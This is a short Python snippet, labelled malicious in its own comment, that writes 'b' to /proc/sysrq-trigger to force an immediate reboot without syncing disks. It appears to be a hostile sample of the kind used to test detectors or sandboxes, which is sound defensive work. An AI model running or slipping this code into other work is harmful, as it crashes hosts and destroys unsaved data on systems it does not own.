# Malicious: writes 'b' to /proc/sysrq-trigger; reboots the host instantly without syncing disks.
with open("/proc/sysrq-trigger", "w") as trigger:
    trigger.write("b")
